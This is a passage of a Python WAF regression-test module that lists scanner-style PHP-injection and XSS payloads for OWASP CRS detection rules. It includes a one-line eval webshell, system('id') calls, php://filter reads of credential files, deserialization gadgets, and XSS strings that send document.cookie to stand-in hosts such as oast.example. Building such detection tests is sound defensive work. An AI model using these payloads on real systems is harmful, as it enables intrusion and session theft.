"""Blind positive tests for the PHP-injection and XSS detection titles of CRS 3.3.4 (paranoia levels 1-2) and
the later 4.x titles of the same families, written the way automated scanners and exploitation tools emit
them in their active checks, with benign requests that carry the same words innocently.

Angle: a fifteenth author of these titles, who writes what scanners send. For each title: the canonical attack
it names, then one payload per alternative its family covers (every tag, attribute, function, wrapper,
directive, variable or encoding of that family), in the shapes DAST scanners and exploitation tools build:
arithmetic and md5 canaries, time-delay and out-of-band probes to a collaborator-style host, context-breaking
prefixes (quote, tag, comment and script-block closers), random case, comments for spaces, entity and
character encodings, PHPGGC-style serialized gadgets, file-upload extension ladders.

Families and sub-families (one sub-family per detection title):
- php: php-open-tag (933100), php-script-upload (933110), php-config-directive (933120), php-variables (933130),
  php-io-stream (933140), php-wrapper-scheme (933200), php-high-risk-function-name (933150),
  php-high-risk-function-call (933160), php-serialized-object (933170), php-variable-function-call (933180),
  php-variable-function-callee (933210: string, array and concatenated callees), php-medium-risk-function-name
  (933151).
- xss: xss-libinjection (941100), xss-script-tag (941110), xss-event-handler (941120), xss-attribute-vector
  (941130), xss-javascript-uri (941140), xss-noscript-html-injection (941160), xss-noscript-attribute-injection
  (941170), xss-node-validator-blacklist (941180), the IE XSS filters one by one (941190 xss-ie-style,
  941200 xss-ie-vmlframe, 941210 xss-ie-obfuscated-javascript, 941220 xss-ie-obfuscated-vbscript,
  941230 xss-ie-embed, 941240 xss-ie-import-implementation, 941250 xss-ie-meta-http-equiv, 941260
  xss-ie-meta-charset, 941270 xss-ie-link-href, 941280 xss-ie-base-href, 941290 xss-ie-applet, 941300
  xss-ie-object, 941330 xss-ie-quote-location-assign, 941340 xss-ie-quote-property-assign),
  xss-us-ascii-malformed (941310), xss-utf7 (941350), xss-jsfuck (941360), xss-js-global-variable (941370),
  xss-libinjection-pl2 (941101, URL path and Referer), xss-disallowed-attributes (941150), xss-html-tag-handler
  (941320), xss-angularjs-csti (941380), and the later titles xss-js-method and xss-function-no-parens.

Placements: each payload is sent twice. Once to our real routes, rotating: the query of /api/users, the form of
/admin/users/search (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the Referer, the
X-Forwarded-Host header, a query parameter name, an XML body (CDATA), a multipart field, a multipart filename,
the URL path. Once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not
our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter
names, as a query string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value,
or in the User-Agent, the Referer, a custom header or a cookie. The upload title goes to multipart filenames
and the X-Filename family of headers; 941101 to the URL path and the Referer; the malformed US-ASCII title
sends its bytes 0xBC and 0xBE percent-encoded as single bytes where the place is URL-encoded.

Authorship and independence: written from general knowledge of how scanners build their probes and from the
detection titles alone; no ruleset, rule file, regression test or public payload list was read, and the
WAF code was not looked at. The set was measured once on unchanged code and its payloads were not changed
after seeing the result. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request
from .records import numbered, print_records

NAME = "hundredtwelfth"

OAST = "oast.example"

# ---------------------------------------------------------------------------------------------------------------
# PHP injection
# ---------------------------------------------------------------------------------------------------------------

PHP_OPEN_TAG = [
    "<?php phpinfo(); ?>",
    "<?php echo md5('dast_probe_31337'); ?>",
    "<?=print(9347655345-4954366)?>",
    "<? echo 'zzx'.'qvv'; ?>",
    "<?PhP SyStEm('id');?>",
    "\"><?php echo 1337*7;?>",
    "<script language=\"php\">echo 31337*3;</script>",
    "<?php\n@eval($_REQUEST['c']);",
    "<?php sleep(7);?>",
    "[php]echo 9*9;[/php]",
    "<?php file_get_contents('http://" + OAST + "/p?'.php_uname());?>",
    "';?><?php print(md5(acunetix));?>",
]

PHP_SCRIPT_UPLOAD = [
    "shell.php",
    "x.php5",
    "cmd.phtml",
    "avatar.PhP",
    "upload.php7",
    "test.php3",
    "probe.php4",
    "b.pht",
    "image.php.",
    "x.php.jpg",
    "img.jpg.php",
    "shell.phar",
    "evil.php::$DATA",
    "poc.pHtml",
]

PHP_CONFIG_DIRECTIVE = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "allow_url_fopen=1",
    "auto_append_file=/etc/passwd",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "register_globals=on",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "error_log=/var/www/html/x.php",
    "include_path=.:/tmp",
    "sendmail_path=/tmp/x.sh",
    "session.save_path=/tmp",
    "display_errors=1",
]

PHP_VARIABLES = [
    "$_GET['cmd']",
    "$_POST[0]",
    "print_r($_SERVER)",
    "$_COOKIE",
    "$_ENV[\"PATH\"]",
    "$_FILES[f][tmp_name]",
    "$_REQUEST[1337]",
    "$_SESSION['admin']=1",
    "$GLOBALS",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_SERVER_VARS",
    "$http_response_header",
    "$argv[1]",
    "$php_errormsg",
]

PHP_IO_STREAM = [
    "php://input",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "PHP://STDIN",
    "php://stdout",
    "php://stderr",
    "php://output",
    "php://memory",
    "php://temp/maxmemory:1048576",
    "php://fd/0",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "....//....//php://filter/resource=../../../etc/passwd",
]

PHP_WRAPPER_SCHEME = [
    "expect://id",
    "phar://./uploads/avatar.jpg/test.txt",
    "zip://uploads/x.zip#shell.php",
    "compress.zlib://../../../../etc/passwd",
    "compress.bzip2:///tmp/x.bz2",
    "glob:///var/www/html/*.php",
    "ssh2.shell://user:pass@" + OAST + ":22/xterm",
    "ssh2.exec://user:pass@" + OAST + ":22/id",
    "ssh2.sftp://user:pass@" + OAST + "/etc/passwd",
    "ssh2.tunnel://user:pass@" + OAST + ":22/127.0.0.1:6379",
    "rar://uploads/archive.rar#shell.php",
    "ogg://http://" + OAST + "/a.ogg",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
]

PHP_HIGH_RISK_NAME = [
    "shell_exec",
    "call_user_func_array",
    "base64_decode",
    "file_put_contents",
    "fsockopen",
    "pcntl_exec",
    "gzinflate",
    "str_rot13",
    "get_defined_vars",
    "posix_getpwuid",
    "wp_remote_get",
    "__halt_compiler",
    "convert_uudecode",
    "ReflectionFunction",
]

PHP_HIGH_RISK_CALL = [
    "system('id')",
    "passthru(\"cat /etc/passwd\")",
    "exec('sleep 5')",
    "eval('echo 31337*3;')",
    "assert(\"phpinfo()\")",
    "phpinfo()",
    "popen('id','r')",
    "proc_open('whoami',array(),$p)",
    "preg_replace('/x/e','system(\"id\")','x')",
    "create_function('','system(\"id\");')",
    "readfile('/etc/hosts')",
    "highlight_file('index.php')",
    "array_map('system',array('id'))",
    "SyStEm /**/('id')",
]

PHP_SERIALIZED = [
    "O:8:\"stdClass\":0:{}",
    "O:+8:\"stdClass\":0:{}",
    "a:1:{i:0;O:8:\"stdClass\":0:{}}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"*events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"*formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"*event\";s:2:\"id\";}",
    "O:29:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:6:\"socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}",
    "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"disconnectHandlers\";a:0:{}}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"methods\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}s:9:\"_fn_close\";"
    "s:7:\"phpinfo\";}",
    "O:7:\"Example\":1:{s:4:\"hook\";s:14:\"system('id');\";}",
    "a:2:{i:0;s:4:\"test\";i:1;O:12:\"SplFileObject\":0:{}}",
    "O:1:\"S\":1:{s:4:\"test\";R:1;}",
    "O:8:\"WP_Theme\":1:{s:8:\"template\";s:15:\"../../../../tmp\";}",
    "x:i:0;O:9:\"Exception\":1:{s:7:\"message\";s:5:\"31337\";}",
]

PHP_VARIABLE_CALL = [
    "$a('id')",
    "$_GET['f']($_GET['c'])",
    "$_POST[0]($_POST[1])",
    "${'_GET'}['a']('id')",
    "$$x('whoami')",
    "$f/**/('id')",
    "$func (\"uname -a\")",
    "$_=$_GET;$_[0]($_[1]);",
    "$x='sys'.'tem';$x('id');",
    "$cmd{0}('id')",
    "@$_REQUEST['e']($_REQUEST['p'])",
    "$f#x\n('sleep 5')",
]

PHP_VARIABLE_CALLEE = [
    "(\"system\")(\"id\");",
    "\"system\"(\"id\");",
    "'sys'.'tem'('id');",
    "(\"sy\".\"stem\")(\"whoami\");",
    "$a[0]('id');",
    "$x{1}('id');",
    "(base64_decode('c3lzdGVt'))('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\");",
    "(str_rot13('flfgrz'))('id');",
    "['sys'.'tem'][0]('id');",
    "implode('',['sys','tem'])('id');",
    "(string)'system'('sleep 5');",
    "[new ReflectionFunction('system'),'invoke']('id');",
]

PHP_MEDIUM_RISK_NAME = [
    "ini_set",
    "putenv",
    "getenv",
    "symlink",
    "chmod",
    "posix_kill",
    "mb_ereg_replace",
    "parse_ini_file",
    "ftp_connect",
    "set_time_limit",
    "ini_get_all",
    "getmypid",
    "get_cfg_var",
    "posix_setuid",
]

# ---------------------------------------------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------------------------------------------

XSS_LIBINJECTION = [
    "<script>alert(1)</script>",
    "\"><svg/onload=alert(document.domain)>",
    "'><img src=x onerror=prompt(1)>",
    "</textarea><script>confirm(1)</script>",
    "--><iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "'\"--></style></script><script>alert(0x000123)</script>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "\"><img src=//" + OAST + "/x.png onerror=alert(1)>",
]

XSS_SCRIPT_TAG = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//attacker.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>alert(1)</script>",
    "<script type=\"text/javascript\">javascript:alert(1);</script>",
    "<script>fetch('//" + OAST + "/'+document.cookie)</script>",
    "<<script>alert(1);//<</script>",
    "<script\t>alert(1)</script>",
    "'-alert(1)-'</script><script>alert(1)</script>",
    "<SCRIPT a=\">\" SRC=\"//attacker.example/xss.js\"></SCRIPT>",
]

XSS_EVENT_HANDLER = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<body onpageshow=alert(1)>",
    "<div onpointerenter=alert(1)>x</div>",
    "<video><source onerror=\"alert(1)\">",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<select onchange=alert(1)><option>1</option></select>",
    "<form onsubmit=alert(1)><input type=submit>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=confirm(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x onclick=alert(1)>click",
]

XSS_ATTRIBUTE_VECTOR = [
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<form><button formaction=javascript:alert(1)>X</button>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<style>@import 'http://attacker.example/x.css';</style>",
    "<input pattern=\".*\" oninvalid=alert(1) required>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<!DOCTYPE x [<!ENTITY xss \"&#60;script&#62;alert(1)&#60;/script&#62;\">]>",
]

XSS_JAVASCRIPT_URI = [
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"width:1px;background:url(javascript:alert(1))\">",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=\"javascript:alert(1)\">",
    "JaVaScRiPt:alert(document.cookie)",
    "javascript://\nalert(1)",
    "java\tscript:alert(1)",
    "<table background=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<body style=\"list-style-image:url(javascript:alert(1))\">",
    "<li style=\"list-style-image: url(&quot;javascript:alert(1)&quot;)\">",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]

XSS_NOSCRIPT_HTML = [
    "<iframe src=//attacker.example>",
    "<object data=//attacker.example/x.swf>",
    "<embed src=//attacker.example/x.swf>",
    "<form action=//attacker.example><input name=q>",
    "<base href=//attacker.example/>",
    "<link rel=import href=//attacker.example/x.html>",
    "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
    "<frameset><frame src=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<applet code=Evil.class>",
    "<style>*{color:red}</style>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

XSS_NOSCRIPT_ATTRIBUTE = [
    "javascript:alert(document.domain)",
    "javascript:eval(name)",
    "javascript:\\u0061lert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
    "data:,alert(1)",
    "@import 'http://attacker.example/x.css';",
    "@im\\port url(//attacker.example/x.css)",
    "-moz-binding:url(//attacker.example/xss.xml#xss)",
    "\" style=\"-moz-binding:url(http://attacker.example/x.xml#x)",
    "javascript:location='//" + OAST + "/?c='+document.cookie",
]

XSS_NODE_VALIDATOR = [
    "document.cookie",
    "document.write('<img src=//" + OAST + "/'+document.cookie+'>')",
    "this.parentNode.innerHTML='x'",
    "window.location='//attacker.example'",
    "-moz-binding:url(x.xml#x)",
    "--><!--",
    "--><svg onload=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "document.body.innerHTML=location.hash.slice(1)",
    "top.window.location.href='javascript:alert(1)'",
    "el.parentNode.removeChild(el)",
    "new Image().src='//" + OAST + "/?c='+document.cookie",
]

XSS_IE_STYLE = [
    "<style>@import'//attacker.example/x.css';</style>",
    "<div style=\"x:expression(alert(1))\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<style>*{x:e\\xpression(alert(1))}</style>",
    "<style>body{behavior:url(//attacker.example/x.htc)}</style>",
    "<style type=\"text/css\">@import url(//attacker.example/x.css);</style>",
    "<style>a{background:url(&#106;avascript:alert(1))}</style>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<style>x{width:expression(alert(1))}</style>",
]

XSS_IE_VMLFRAME = [
    "<v:vmlframe src=\"//attacker.example/x.vml#xss\">",
    "<vmlframe src=//attacker.example/a.vml>",
    "<xml:namespace prefix=\"v\"><v:vmlframe src=\"foo.vml#xss\"></v:vmlframe>",
    "<x:vmlframe/src=//attacker.example>",
    "<V:VMLFRAME SRC=\"javascript:alert(1)\">",
    "<v:vmlframe  src = \"http://attacker.example/x.vml\">",
    "\"><v:vmlframe src=//" + OAST + "/xss.vml#x>",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml\">",
]

XSS_IE_OBFUSCATED_JS = [
    "j&#97;vascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "java&#x0D;script:alert(1)",
    "<img src=\"jav\tascript:alert(1)\">",
    "javascript&colon;alert(1)",
    "&#x6a;avascript:alert(1)",
    "ja&#x76;ascript:prompt(1)",
]

XSS_IE_OBFUSCATED_VBS = [
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(\"XSS\")",
    "<a href=\"vbscript:MsgBox(1)\">x</a>",
    "&#118;bscript:msgbox(1)",
    "vb&#x73;cript:alert(1)",
    "<img src='vbscript:msgbox(\"XSS\")'>",
    "vbs&#99;ript:execute(1)",
    "v&#x62;script:msgbox(document.cookie)",
    "<iframe src=vbscript:msgbox(1)>",
    "&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:msgbox(1)",
]

XSS_IE_EMBED = [
    "<embed src=\"javascript:alert(1)\">",
    "<EMBED SRC=\"http://attacker.example/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<embed type=\"image/svg+xml\" src=\"//attacker.example/x.svg\">",
    "<embed/src=//attacker.example/x.swf>",
    "<embed code=\"//attacker.example/x.swf\" allowscriptaccess=always>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "\"><embed src=x.swf>",
    "<embed+src=//" + OAST + "/e>",
]

XSS_IE_IMPORT = [
    "<import implementation=\"#default#time2\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<IMPORT namespace=\"v\" implementation=\"//attacker.example/x.htc\">",
    "<?import implementation=\"http://attacker.example/x.htc\">",
    "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
    "<t:set attributeName=\"innerHTML\" to=\"XSS&lt;script defer&gt;alert(1)&lt;/script&gt;\">",
    "<import/implementation=#default#VML>",
    "<?import namespace=\"xss\" implementation=\"//" + OAST + "/xss.htc\">",
    "<import namespace=v implementation=#default#VML>",
]

XSS_IE_META_HTTP_EQUIV = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<script>alert(1)</script>\">",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=//attacker.example/\">",
    "<meta/http-equiv=\"refresh\"/content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://attacker.example/x.css>; REL=stylesheet\">",
    "<meta http-equiv=\"set-cookie\" content=\"session=attacker\">",
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\">",
]

XSS_IE_META_CHARSET = [
    "<meta charset=\"UTF-7\">",
    "<META charset=x-imap4-modified-utf7>",
    "<meta charset=iso-2022-jp>",
    "<meta content=\"text/html; charset=UTF-7\" http-equiv=\"content-type\">",
    "<meta/charset=utf-7>",
    "<meta charset=\"x-mac-farsi\">",
    "<meta name=x charset=shift_jis>",
    "\"><meta charset=UTF-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

XSS_IE_LINK = [
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://attacker.example/xss.css\">",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<link rel=preload href=//" + OAST + "/p>",
    "<link/rel=stylesheet/href=//attacker.example/x.css>",
    "<link rel=\"icon\" href=\"//attacker.example/favicon.ico\">",
    "<link rel=dns-prefetch href=//" + OAST + ">",
    "\"><link rel=stylesheet href=//attacker.example/x.css>",
    "<link href=\"data:text/css,*{x:expression(alert(1))}\" rel=\"stylesheet\">",
]

XSS_IE_BASE = [
    "<base href=\"javascript:alert(1)//\">",
    "<BASE HREF=\"http://attacker.example/\">",
    "<base href=//attacker.example/>",
    "<base target=_blank href=//" + OAST + "/>",
    "\"><base href=//attacker.example/>",
    "<base/href=//attacker.example/x/>",
    "<BaSe HrEf=\"data:text/html,x\">",
    "</title><base href=//attacker.example>",
]

XSS_IE_APPLET = [
    "<applet code=\"Evil.class\" codebase=\"//attacker.example/\">",
    "<APPLET CODE=\"javascript:alert(1)\"></APPLET>",
    "<applet/code=x.class>",
    "<applet archive=\"//attacker.example/x.jar\" code=\"Exploit\">",
    "\"><applet code=Exploit.class>",
    "<applet onload=alert(1)>",
    "<APPLET codebase=http://attacker.example code=x.class width=1 height=1></APPLET>",
    "<applet>",
]

XSS_IE_OBJECT = [
    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://attacker.example/xss.html\"></OBJECT>",
    "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><param name=\"DataURL\" value=\"javascript:"
    "alert(1)\"></object>",
    "<object codetype=\"application/x-shockwave-flash\" data=\"//attacker.example/x.swf\">",
    "<object code=\"Evil.class\">",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<object type=\"image/svg+xml\" data=\"//attacker.example/x.svg\">",
    "<object/data=//" + OAST + "/x>",
    "\"><object data=x.swf type=application/x-shockwave-flash>",
]

XSS_IE_QUOTE_LOCATION = [
    "\";location='//attacker.example/'+document.cookie;//",
    "';location.href='javascript:alert(1)';//",
    "\"+name=alert(1)+\"",
    "'-onerror=alert;throw 1-'",
    "\"in location=/javascript:alert(1)/.source;//",
    "';valueOf=alert;//",
    "\";window.name='x';location='//" + OAST + "/';//",
    "'; \\u006Cocation='//attacker.example';//",
    "\"|location='javascript:alert(1)'|\"",
    "');onerror=alert;throw 1;//",
]

XSS_IE_QUOTE_PROPERTY = [
    "\";document.cookie='a=b';//",
    "';document.body.innerHTML='<h1>x</h1>';//",
    "\"-document.title='xss'-\"",
    "';window.foo.bar=1;//",
    "\"+alert.call=1+\"",
    "'};x.y=alert;x.y(1);//",
    "\");document.location.hash='x';//",
    "';top.opener.location='//attacker.example';//",
    "\"|self.status='x'|\"",
    "'; new Image().src='//" + OAST + "/?c='+document.cookie;//",
]

XSS_US_ASCII = [
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "\u00bcimg src=x onerror=alert(1)\u00be",
    "\u00bcsvg onload=alert(1)\u00be",
    "\u00bciframe src=javascript:alert(1)\u00be",
    "\u00bcscript src=//attacker.example/x.js\u00be\u00bc/script\u00be",
    "\"\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\u00bcbody onload=alert(1)\u00be",
    "\u00bca href=javascript:alert(1)\u00bex\u00bc/a\u00be",
]

XSS_UTF7 = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ACI-+AD4-+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
    "+ADw-svg onload=alert(1)+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADw-/script+AD4-",
    "+ACIAPgA8-script+AD4-alert(1)+ADw-+AC8-script+AD4-",
    "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
    "+ADw-body onload+AD0-alert(1)+AD4-",
]

XSS_JSFUCK = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+[]]+(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
    "(+[![]]+[])[+!+[]]",
    "!+[]+!+[]+!+[]",
    "({}+[])[+!+[]]",
    "(!![]+[])[!+[]+!+[]+!+[]]",
    "[+[]]+[!+[]+!+[]]",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
    "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$};",
    "(+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]])+[])[!+[]+!+[]]",
]

XSS_JS_GLOBAL = [
    "window['alert'](1)",
    "self['al'+'ert'](1)",
    "top[/*x*/'alert'](1)",
    "this['ale'+'rt'](document.domain)",
    "document['cookie']",
    "parent['confirm'](1)",
    "frames['alert'](1)",
    "globalThis['eval']('alert(1)')",
    "window /*x*/ ['prompt'](1)",
    "top['\\x61lert'](1)",
    "self[atob('YWxlcnQ=')](1)",
    "window[String.fromCharCode(97,108,101,114,116)](1)",
    "\"-top['alert'](1)-\"",
]

XSS_LIBINJECTION_PL2 = [
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "'><iframe onload=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>",
    "</title><script>alert(1)</script>",
    "<svg/onload=prompt(1)>",
    "<details open ontoggle=confirm(1)>",
    "\"><img src=//" + OAST + "/x onerror=alert(1)>",
]

XSS_DISALLOWED_ATTRIBUTES = [
    "\" style=\"x:expression(alert(1))",
    "\" src=\"//attacker.example/x.js",
    "' href='javascript:alert(1)",
    "x\" style=animation-name:rotation onanimationstart=alert(1) x=\"",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<input type=image src=x:x>",
    "<a href=//attacker.example>click</a>",
    "<td background=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
    "<video poster=javascript:alert(1)>",
]

XSS_HTML_TAG_HANDLER = [
    "<h1>dastcanary8431</h1>",
    "\"><marquee>xss</marquee>",
    "<plaintext>",
    "<xmp>",
    "<textarea autofocus>",
    "<form action=//attacker.example/>",
    "<input type=hidden name=x>",
    "<table background=x>",
    "<bgsound src=//attacker.example/a.wav>",
    "<blink>injected</blink>",
    "<layer src=//attacker.example>",
    "<keygen autofocus>",
    "<span style=color:red>canary</span>",
    "<body bgcolor=red>",
]

XSS_ANGULAR = [
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{toString().constructor.prototype.charAt=[].join; [1]|orderBy:toString().constructor.fromCharCode(120,61,97,"
    "108,101,114,116,40,49,41)}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{ 1337*1337 }}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{7*'7'}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "{{$new.constructor('alert(1)')()}}",
]

XSS_JS_METHOD = [
    "alert(1)",
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\",1000)",
    "new Function('alert(1)')()",
    "prompt(document.domain)",
    "confirm(1)",
    "btoa(document.cookie)",
    "import('//attacker.example/x.js')",
    "console.log(document.cookie)",
    "fetch('//" + OAST + "/'+document.cookie)",
    "';alert(1);//",
    "\"-confirm(1)-\"",
]

XSS_NO_PARENS = [
    "alert`1`",
    "prompt`document.domain`",
    "onerror=alert;throw 1",
    "[1].find(alert)",
    "setTimeout`alert\\x281\\x29`",
    "[1].map(alert)",
    "window.onerror=eval;throw'=alert\\x281\\x29'",
    "{onerror=alert}throw 1",
    "new Function`alert\\`1\\``",
    "'-alert`1`-'",
    "location='javas'+'cript:alert%281%29'",
    "[].sort.call`${alert}1337`",
]

# (category, sub-family, payloads), one sub-family per detection title
SETS: list[tuple[str, str, list[str]]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-script-upload", PHP_SCRIPT_UPLOAD),
    ("php", "php-config-directive", PHP_CONFIG_DIRECTIVE),
    ("php", "php-variables", PHP_VARIABLES),
    ("php", "php-io-stream", PHP_IO_STREAM),
    ("php", "php-wrapper-scheme", PHP_WRAPPER_SCHEME),
    ("php", "php-high-risk-function-name", PHP_HIGH_RISK_NAME),
    ("php", "php-high-risk-function-call", PHP_HIGH_RISK_CALL),
    ("php", "php-serialized-object", PHP_SERIALIZED),
    ("php", "php-variable-function-call", PHP_VARIABLE_CALL),
    ("php", "php-variable-function-callee", PHP_VARIABLE_CALLEE),
    ("php", "php-medium-risk-function-name", PHP_MEDIUM_RISK_NAME),
